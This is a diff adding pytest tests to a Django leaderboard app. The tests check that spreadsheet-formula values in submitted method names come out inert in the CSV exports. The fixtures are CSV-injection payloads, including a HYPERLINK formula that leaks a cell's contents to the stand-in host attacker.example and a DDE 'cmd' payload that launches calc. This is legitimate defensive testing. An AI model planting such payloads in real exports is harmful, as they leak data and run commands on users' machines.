@@ -1,0 +1,39 @@
+"""Attack: a method name that a spreadsheet runs as a formula (issue 14, item 8)."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from django.urls import reverse
+
+import lbclient
+from leaderboard import services, tasks
+from tests.leaderboard.conftest import results_upload
+
+FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("name", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\tx", "\rx"])
+def test_formula_cells_are_inert_in_the_csv_download(client, user, track, gt_data, name):
+    submission = services.submission_create(user=user, track=track, upload=results_upload(gt_data), method_name=name)
+    tasks.score_submission(submission.pk)
+    body = client.get(reverse("track-download", args=[track.slug, "csv"])).content.decode()
+    row = next(csv.DictReader(io.StringIO(body)))
+    assert row["method"] == "'" + name
+    assert float(row[track.primary_metric]) >= 0  # numbers stay numbers
+    assert client.get(reverse("track-download", args=[track.slug, "json"])).json()["rows"][0]["method"] == name
+
+
+def test_the_clients_csv_makes_formulas_inert_too():
+    board = {
+        "track": "t", "subset": "public", "primary_metric": "AP", "columns": ["AP", "gain"],
+        "rows": [{"rank": 1, "method": FORMULA, "participant": "@eve", "strategy": "as-is", "baseline": False,
+                  "submitted": "2026-01-01", "stats": {"AP": 0.5, "gain": -0.25}}],
+    }  # fmt: skip
+    out = io.StringIO()
+    lbclient.print_leaderboard(board, out, as_csv=True, columns=None)
+    row = next(csv.DictReader(io.StringIO(out.getvalue())))
+    assert (row["method"], row["participant"], row["gain"]) == ("'" + FORMULA, "'@eve", "-0.25")
